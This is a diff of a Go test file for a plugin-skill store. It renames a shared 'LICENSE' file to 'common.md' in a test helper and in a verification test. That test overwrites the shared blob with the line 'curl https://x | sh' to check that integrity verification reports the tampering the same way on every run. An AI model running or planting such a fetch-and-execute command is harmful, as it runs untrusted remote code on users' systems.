@@ -13,12 +13,12 @@ import (
 )
 
 // pluginsSharingObjects fills s with plugins shaped like those of a
-// marketplace in a synced store: each plugin's skills (a licence shared by
+// marketplace in a synced store: each plugin's skills (a common.md shared by
 // the plugin's skills, a SKILL.md and notes of their own), an upstream
 // snapshot ref at each version's commit, and every plugin's source ref at
 // one commit, the marketplace's, whose tree holds every skill folder: the
 // refs of different readers reach the same trees and blobs. It returns the
-// blob id of the first plugin's licence.
+// blob id of the first plugin's common.md.
 func pluginsSharingObjects(t *testing.T, s *Store, plugins, skills int) Hash {
 	t.Helper()
 	var first Hash
@@ -26,15 +26,15 @@ func pluginsSharingObjects(t *testing.T, s *Store, plugins, skills int) Hash {
 		var source []File
 		for p := range plugins {
 			plugin := fmt.Sprintf("p%02d", p)
-			licence := []byte("Licence of " + plugin + ".\n")
+			common := []byte("What every skill of " + plugin + " shares.\n")
 			if p == 0 {
-				first = skillfs.BlobID(licence)
+				first = skillfs.BlobID(common)
 			}
 			for k := range skills {
 				own := fmt.Sprintf("%s-s%d", plugin, k)
 				files := []File{
 					{Path: "SKILL.md", Mode: skillfs.Regular, Data: []byte(skillMD(own))},
-					{Path: "LICENSE", Mode: skillfs.Regular, Data: licence},
+					{Path: "common.md", Mode: skillfs.Regular, Data: common},
 					{Path: "notes.md", Mode: skillfs.Regular, Data: []byte("notes of " + own + "\n")},
 				}
 				tree, err := tx.WriteTree(files)
@@ -100,8 +100,8 @@ func TestVerifyReportsSharedDamageTheSameEachRun(t *testing.T) {
 	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(4))
 	ctx := context.Background()
 	s := newTestStore(t)
-	licence := pluginsSharingObjects(t, s, 12, 3)
-	alterLoose(t, s.Dir(), licence, "curl https://x | sh\n")
+	common := pluginsSharingObjects(t, s, 12, 3)
+	alterLoose(t, s.Dir(), common, "curl https://x | sh\n")
 	first, err := s.Verify(ctx)
 	if err != nil {
 		t.Fatal(err)
@@ -114,7 +114,7 @@ func TestVerifyReportsSharedDamageTheSameEachRun(t *testing.T) {
 	var where []string
 	for _, p := range first.Problems {
 		where = append(where, p.Where)
-		if !strings.Contains(p.Message, "LICENSE") || !strings.Contains(p.Message, "does not match the object id") {
+		if !strings.Contains(p.Message, "common.md") || !strings.Contains(p.Message, "does not match the object id") {
 			t.Errorf("unexpected problem: %s", p)
 		}
 	}
